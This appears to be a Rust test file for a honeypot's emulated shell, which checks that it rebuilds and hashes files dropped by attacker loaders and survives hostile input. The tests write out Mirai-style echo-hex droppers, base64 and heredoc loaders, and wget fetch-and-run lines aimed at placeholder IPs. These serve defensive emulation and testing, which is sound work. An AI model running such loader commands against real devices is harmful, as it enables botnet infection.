//! The shell against the loaders it must understand, and against hostile lines.

use super::*;
use sha2::{Digest, Sha256};
use std::cell::RefCell;

/// Collects what the shell records; captures keep everything (no sample area).
#[derive(Default)]
struct Rec {
    events: RefCell<Vec<Detail>>,
}

impl Recorder for Rec {
    fn emit(&self, detail: Detail) {
        self.events.borrow_mut().push(detail);
    }
    fn capture(&self) -> PayloadCapture {
        PayloadCapture::new(1 << 20)
    }
    fn emit_capture(&self, capture: PayloadCapture, name: &str) {
        self.events.borrow_mut().push(capture.finish(name).payload);
    }
}

impl Rec {
    /// (name, sha256, size, truncated) of every kept file.
    fn files(&self) -> Vec<(String, [u8; 32], u64, bool)> {
        self.events
            .borrow()
            .iter()
            .filter_map(|d| match d {
                Detail::Payload { name, sha256, size, truncated, .. } => {
                    Some((name.clone(), *sha256, *size, *truncated))
                }
                _ => None,
            })
            .collect()
    }
    fn commands(&self) -> usize {
        self.events.borrow().iter().filter(|d| matches!(d, Detail::Command { .. })).count()
    }
}

fn run(sh: &mut Shell, rec: &Rec, line: &str) -> String {
    String::from_utf8_lossy(&sh.input_line(rec, line.as_bytes()).output).into_owned()
}

/// Every byte value, in an order that is not sorted.
fn binary() -> Vec<u8> {
    (0..3000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).chain(0..=255).collect()
}

#[test]
fn a_mirai_echo_loader_is_rebuilt_byte_for_byte() {
    let data = binary();
    let rec = Rec::default();
    let mut sh = Shell::new(Flavor::BusyBox, "root", ShellLimits::default());
    assert_eq!(run(&mut sh, &rec, "/bin/busybox ECCHI"), "ECCHI: applet not found\n");
    assert_eq!(
        run(&mut sh, &rec, "/bin/busybox wget; /bin/busybox tftp"),
        "wget: applet not found\ntftp: applet not found\n"
    );
    let elf = sh.input_line(&rec, b"/bin/busybox cat /bin/echo").output;
    assert_eq!(&elf[..4], b"\x7fELF");
    run(&mut sh, &rec, "cd /tmp");
    run(&mut sh, &rec, ">dvrHelper; /bin/busybox chmod 777 dvrHelper");
    for chunk in data.chunks(128) {
        let esc: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
        assert_eq!(run(&mut sh, &rec, &format!("echo -ne '{esc}' >> dvrHelper")), "");
    }
    assert!(rec.files().is_empty(), "not complete yet");
    run(&mut sh, &rec, "./dvrHelper telnet.x86; /bin/busybox ECCHI");
    let files = rec.files();
    assert_eq!(files.len(), 1);
    assert_eq!(files[0].0, "/tmp/dvrHelper");
    assert_eq!(files[0].1, <[u8; 32]>::from(Sha256::digest(&data)));
    assert_eq!((files[0].2, files[0].3), (data.len() as u64, false));
}

#[test]
fn printf_base64_and_heredoc_loaders() {
    use base64::Engine;
    let data = binary();
    let sha = <[u8; 32]>::from(Sha256::digest(&data));
    let b64 = base64::engine::general_purpose::STANDARD.encode(&data);
    let rec = Rec::default();
    let mut sh = Shell::new(Flavor::Debian, "root", ShellLimits::default());
    // printf with octal and hex escapes, in pieces.
    for (n, chunk) in data.chunks(100).enumerate() {
        let esc: String =
            chunk.iter().map(|b| if b % 2 == 0 { format!("\\{b:03o}") } else { format!("\\x{b:02x}") }).collect();
        let op = if n == 0 { ">" } else { ">>" };
        run(&mut sh, &rec, &format!("printf '{esc}' {op} /var/tmp/p"));
    }
    // base64 through a pipe; base64 -d and cat here-documents (the body in 76-column lines).
    run(&mut sh, &rec, &format!("echo {b64} | base64 -d > /tmp/b"));
    run(&mut sh, &rec, "base64 -d > /tmp/h << 'EOF'");
    assert_eq!(sh.prompt(), "> ");
    for l in b64.as_bytes().chunks(76) {
        run(&mut sh, &rec, std::str::from_utf8(l).unwrap());
    }
    run(&mut sh, &rec, "EOF");
    run(&mut sh, &rec, "cat > /tmp/s.sh <<END");
    run(&mut sh, &rec, "#!/bin/sh");
    run(&mut sh, &rec, "wget http://198.51.100.9/x -O /tmp/x");
    run(&mut sh, &rec, "END");
    run(&mut sh, &rec, "chmod +x /tmp/h /var/tmp/p; sh /tmp/s.sh");
    sh.finish(&rec);
    let files = rec.files();
    let names: Vec<&str> = files.iter().map(|f| f.0.as_str()).collect();
    assert_eq!(names, ["/tmp/h", "/var/tmp/p", "/tmp/s.sh", "/tmp/b"]);
    for f in &files[..2] {
        assert_eq!(f.1, sha, "{}", f.0);
    }
    assert_eq!(files[3].1, sha);
    assert_eq!(files[2].1, <[u8; 32]>::from(Sha256::digest(b"#!/bin/sh\nwget http://198.51.100.9/x -O /tmp/x\n")));
    // The script's download was seen when it "ran", besides being typed in the heredoc.
    let urls = rec
        .events
        .borrow()
        .iter()
        .filter(|d| matches!(d, Detail::DownloadOffered { url, .. } if url == "http://198.51.100.9/x"))
        .count();
    assert!(urls >= 1);
}

#[test]
fn answers_per_flavor() {
    let rec = Rec::default();
    let mut bb = Shell::new(Flavor::BusyBox, "admin", ShellLimits::default());
    assert_eq!(bb.prompt(), "# ");
    assert!(run(&mut bb, &rec, "uname -a").contains("mips"));
    assert_eq!(run(&mut bb, &rec, "wget http://x/y"), "-sh: wget: not found\n");
    assert_eq!(run(&mut bb, &rec, "echo -e '\\x41\\x4b\\x34\\x37'"), "AK47\n");
    let mut deb = Shell::new(Flavor::Debian, "root", ShellLimits::default());
    assert_eq!(deb.prompt(), "root@web01:~# ");
    run(&mut deb, &rec, "cd /tmp");
    assert_eq!(deb.prompt(), "root@web01:/tmp# ");
    assert_eq!(run(&mut deb, &rec, "nosuch -x"), "-bash: nosuch: command not found\n");
    assert!(run(&mut deb, &rec, "cat /etc/os-release").contains("bookworm"));
    let mut user = Shell::new(Flavor::Debian, "pi", ShellLimits::default());
    assert_eq!(user.prompt(), "pi@web01:~$ ");
    assert!(run(&mut user, &rec, "id").starts_with("uid=1000(pi)"));
    let mut win = Shell::new(Flavor::WindowsCmd, "administrator", ShellLimits::default());
    assert_eq!(win.prompt(), "C:\\Users\\Administrator>");
    assert!(run(&mut win, &rec, "whoami").ends_with("\\administrator\n"));
    assert!(run(&mut win, &rec, "foo").starts_with("'foo' is not recognized"));
    assert!(win.input_line(&rec, b"exit").exit);
}

#[test]
fn lines_past_the_event_cap_are_counted_and_reported() {
    let rec = Rec::default();
    let limits = ShellLimits { max_events: 3, max_lines: 10, ..ShellLimits::default() };
    let mut sh = Shell::new(Flavor::BusyBox, "root", limits);
    for _ in 0..10 {
        assert!(!sh.input_line(&rec, b"id").exit);
    }
    assert!(sh.input_line(&rec, b"id").exit, "the line cap ends the session");
    sh.finish(&rec);
    assert_eq!(rec.commands(), 3);
    let shed = rec.events.borrow().iter().find_map(|d| match d {
        Detail::Extension { kind, fields } if kind == "shell_shed" => Some(fields.clone()),
        _ => None,
    });
    assert_eq!(shed.unwrap()[0], ("lines_not_recorded".to_string(), "7".to_string()));
}

#[test]
fn file_caps_mark_truncation_and_files_are_kept_at_the_end() {
    let rec = Rec::default();
    let limits = ShellLimits { file_budget: 10, ..ShellLimits::default() };
    let mut sh = Shell::new(Flavor::BusyBox, "root", limits);
    run(&mut sh, &rec, "echo -n 0123456789abcdef > /tmp/big");
    run(&mut sh, &rec, "echo -n x > /dev/null");
    sh.finish(&rec);
    let files = rec.files();
    assert_eq!(files.len(), 1);
    assert_eq!((files[0].0.as_str(), files[0].2, files[0].3), ("/tmp/big", 10, true));
}

#[test]
fn exec_scripts_and_paths() {
    let rec = Rec::default();
    let mut sh = Shell::new(Flavor::Debian, "root", ShellLimits::default());
    let r = sh.run_script(&rec, b"cd /dev/shm\nprintf 'ab' > x\nmv x ../../tmp/.y; ls /tmp; exit\necho never");
    assert!(r.exit);
    assert_eq!(String::from_utf8_lossy(&r.output), "");
    assert_eq!(rec.commands(), 3, "each line of the script up to `exit` is a command");
    sh.finish(&rec);
    assert_eq!(rec.files()[0].0, "/tmp/.y");
    assert_eq!(resolve("/a/b", "../../../c/./d//e"), "/c/d/e");
}

#[test]
fn hostile_input_never_panics() {
    use crate::protocols::hostile::random_inputs;
    let rec = Rec::default();
    for flavor in [Flavor::BusyBox, Flavor::Debian, Flavor::WindowsCmd] {
        let limits = ShellLimits { max_events: 50, file_budget: 4096, ..ShellLimits::default() };
        let mut sh = Shell::new(flavor, "root", limits);
        // Lines made of shell syntax, so the lexer, pipes, heredocs and loaders are reached.
        let alphabet: &[u8] = b" ;|&<>'\"\\$`#\n-ecnd/.x0=echo printf base64 cat sh chmod rm mv cp cd >> << EOF";
        for (n, raw) in random_inputs(0x5ee1_1c0d_e000_0000 + flavor as u64, 8_000, 120, false).enumerate() {
            let line: Vec<u8> =
                if n % 2 == 0 { raw.iter().map(|b| alphabet[*b as usize % alphabet.len()]).collect() } else { raw };
            let r = sh.input_line(&rec, &line);
            assert!(r.output.len() <= 64 << 10);
            if n % 1000 == 0 {
                sh.finish(&rec);
            }
        }
        sh.finish(&rec);
        let _ = sh.run_script(&rec, b"sh -c 'sh -c \"sh -c x\"'\necho a | sh\nbase64 -d <<X");
        sh.finish(&rec);
        rec.events.borrow_mut().clear();
    }
}

#[test]
fn input_cut_at_a_cap_marks_the_file_truncated_and_is_reported() {
    // A base64 here-document body longer than the shell follows (4/3 of the file budget):
    // what decodes fits the budget, but the file is partial.
    let rec = Rec::default();
    let limits = ShellLimits { file_budget: 30, ..ShellLimits::default() };
    let mut sh = Shell::new(Flavor::Debian, "root", limits);
    run(&mut sh, &rec, "base64 -d > /tmp/h <<EOF");
    for _ in 0..10 {
        run(&mut sh, &rec, "QUFBQUFBQUFB");
    }
    run(&mut sh, &rec, "EOF");
    // An `exec`'s stdin the transport cut: the same.
    sh.run_with_stdin(&rec, b"cat > /tmp/s", b"abc", 7);
    sh.finish(&rec);
    let files = rec.files();
    let got: Vec<(&str, bool)> = files.iter().map(|f| (f.0.as_str(), f.3)).collect();
    assert_eq!(got, [("/tmp/h", true), ("/tmp/s", true)]);
    assert_eq!(files[0].2, 27, "the three body lines under the cap, decoded");
    let shed = rec.events.borrow().iter().find_map(|d| match d {
        Detail::Extension { kind, fields } if kind == "shell_shed" => Some(fields.clone()),
        _ => None,
    });
    assert_eq!(shed.unwrap()[3], ("input_bytes_not_followed".to_string(), (7 * 13 + 7).to_string()));
    // Input that fit is not marked.
    let rec = Rec::default();
    let mut sh = Shell::new(Flavor::Debian, "root", ShellLimits::default());
    sh.run_with_stdin(&rec, b"cat > /tmp/s", b"abc", 0);
    sh.finish(&rec);
    assert!(!rec.files()[0].3);
}

#[test]
fn the_fuzz_entry_runs_hostile_scripts() {
    for raw in crate::protocols::hostile::random_inputs(0xf022_11e5_0000_0001, 300, 600, true) {
        fuzz_lines(&raw);
    }
    fuzz_lines(b"cat > /tmp/x <<EOF\nsh -c 'echo a | sh'\n\x00\xff");
}

#[test]
fn nested_scripts_are_bounded_per_typed_line() {
    // A script that runs itself from each of its lines: 256 × 256 nested lines per typed line
    // without a budget. Each nested line offers a download, so the events count the work done.
    let rec = Rec::default();
    let mut sh = Shell::new(Flavor::BusyBox, "root", ShellLimits::default());
    let script = "wget http://192.0.2.1/x; cat /tmp/r.sh | sh\n".repeat(300);
    sh.run_with_stdin(&rec, b"cat > /tmp/r.sh", script.as_bytes(), 0);
    for _ in 0..3 {
        sh.input_line(&rec, b"cat /tmp/r.sh | sh");
    }
    sh.finish(&rec);
    let offered = rec.events.borrow().iter().filter(|d| matches!(d, Detail::DownloadOffered { .. })).count();
    assert_eq!(offered, 200, "max_events download offers are recorded");
    let shed = rec.events.borrow().iter().find_map(|d| match d {
        Detail::Extension { kind, fields } if kind == "shell_shed" => Some(fields[4].clone()),
        _ => None,
    });
    let (key, counted) = shed.unwrap();
    assert_eq!(key, "downloads_not_recorded");
    let run = 200 + counted.parse::<usize>().unwrap();
    assert!(run <= 3 * (MAX_NESTED_PER_INPUT + 1), "{run} nested lines run");
    assert!(run >= 3 * MAX_NESTED_PER_INPUT, "{run}: the budget is used, not more");
}
